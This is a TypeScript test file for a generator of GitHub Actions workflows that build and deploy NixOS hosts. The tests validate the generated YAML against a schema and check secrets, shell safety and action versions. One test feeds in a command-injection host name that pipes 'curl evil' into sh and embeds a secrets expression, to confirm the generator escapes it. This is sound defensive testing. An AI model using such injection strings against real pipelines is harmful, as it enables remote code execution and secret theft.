// What is generated is read by a YAML parser and held against the parts of GitHub's schema that it uses.

import { execFileSync } from "node:child_process";
import * as v from "valibot";
import { describe, expect, test } from "vitest";
import { parse } from "yaml";
import { KNOWN_ACTIONS } from "../../../server/src/core/knowledge/actions";
import {
  neededSecrets,
  WORKFLOW_DEPLOYS,
  type WorkflowCache,
  type WorkflowOptions,
  workflowText,
} from "./workflow";

const step = v.union([
  v.strictObject({
    uses: v.pipe(v.string(), v.regex(/^[\w.-]+\/[\w.-]+@v\d+$/)),
    with: v.optional(v.record(v.string(), v.union([v.string(), v.boolean()]))),
  }),
  v.strictObject({
    name: v.string(),
    if: v.optional(v.string()),
    env: v.optional(v.record(v.pipe(v.string(), v.regex(/^[A-Z][A-Z0-9_]*$/)), v.string())),
    run: v.string(),
  }),
]);
const job = v.strictObject({
  name: v.optional(v.string()),
  needs: v.optional(v.string()),
  if: v.optional(v.string()),
  "runs-on": v.string(),
  environment: v.optional(v.string()),
  concurrency: v.optional(v.strictObject({ group: v.string(), "cancel-in-progress": v.boolean() })),
  strategy: v.optional(
    v.strictObject({
      "fail-fast": v.boolean(),
      matrix: v.strictObject({
        include: v.pipe(
          v.array(v.strictObject({ host: v.string(), system: v.string(), runner: v.string() })),
          v.minLength(1),
        ),
      }),
    }),
  ),
  steps: v.pipe(v.array(step), v.minLength(2)),
});
const workflow = v.strictObject({
  name: v.string(),
  on: v.strictObject({ push: v.null(), pull_request: v.null() }),
  permissions: v.strictObject({ contents: v.literal("read"), "id-token": v.optional(v.literal("write")) }),
  jobs: v.strictObject({ build: job, deploy: v.optional(job) }),
});

const host = (name: string) => ({
  name,
  system: `.#nixosConfigurations.${name}.config.system.build.toplevel`,
  configuration: name,
  destination: `root@${name}.test`,
  runner: "ubuntu-latest",
});
const CACHES: readonly WorkflowCache[] = [
  { kind: "none" },
  { kind: "cachix", name: "my-cache" },
  { kind: "attic", endpoint: "https://attic.test", name: "fleet" },
  { kind: "flakehub" },
  { kind: "store", url: "s3://bucket?region=eu-central-1" },
];
const optionsOf = (change: Partial<WorkflowOptions>): WorkflowOptions => ({
  hosts: [host("web"), host("mail")],
  cache: { kind: "none" },
  deploy: "none",
  branch: "main",
  ...change,
});
const read = (options: WorkflowOptions) => v.parse(workflow, parse(workflowText(options)));

describe.each(CACHES)("with the cache $kind", cache => {
  test.each(WORKFLOW_DEPLOYS)("deploying by %s: a workflow that GitHub would take", deploy => {
    const options = optionsOf({ cache, deploy });
    const { jobs } = read(options);
    expect(jobs.build.strategy?.matrix.include.map(each => each.host)).toEqual(["web", "mail"]);
    expect(jobs.deploy === undefined).toBe(deploy === "none");
    const text = workflowText(options);
    for (const name of neededSecrets(options)) expect(text).toContain(`secrets.${name} `);
    const secrets = new Set([...text.matchAll(/secrets\.(\w+)/g)].map(match => match[1] ?? ""));
    expect([...secrets].sort()).toEqual([...neededSecrets(options)].sort());
    const runs = [...jobs.build.steps, ...(jobs.deploy?.steps ?? [])].flatMap(each =>
      "run" in each ? [each.run] : [],
    );
    // no expression inside a script: its value would be read by the shell; and every script is one for bash
    for (const run of runs) {
      expect(run).not.toContain("${{");
      execFileSync("bash", ["-n"], { input: run });
    }
  });
});

test("actions are used in the versions that we know as current", () => {
  const used = CACHES.flatMap(cache => [
    ...workflowText(optionsOf({ cache })).matchAll(/uses: (\S+)@v(\d+)/g),
  ]);
  for (const [, name, major] of used) {
    if (name === "actions/checkout") continue;
    expect(KNOWN_ACTIONS).toContainEqual(expect.objectContaining({ name, major: Number(major) }));
  }
});

test("names that are hostile stay names", () => {
  const name = 'a"; curl evil | sh; ${{ secrets.X }} #';
  const options = optionsOf({ hosts: [{ ...host("x"), name }], deploy: "nixos-rebuild", branch: "it's" });
  const { jobs } = read(options);
  expect(jobs.build.strategy?.matrix.include[0]?.host).toBe(name.replace("${{", "$ {{"));
  expect(jobs.deploy?.if).toContain("'refs/heads/it''s'");
  const runs = jobs.deploy?.steps.flatMap(each => ("run" in each ? [each.run] : [])).join("\n");
  expect(runs).not.toContain("curl");
});

test("a deployment waits for the build, is alone, and only from the branch", () => {
  const { jobs } = read(optionsOf({ deploy: "deploy-rs" }));
  expect(jobs.deploy).toMatchObject({
    needs: "build",
    if: "github.event_name == 'push' && github.ref == 'refs/heads/main'",
    concurrency: { "cancel-in-progress": false },
  });
});
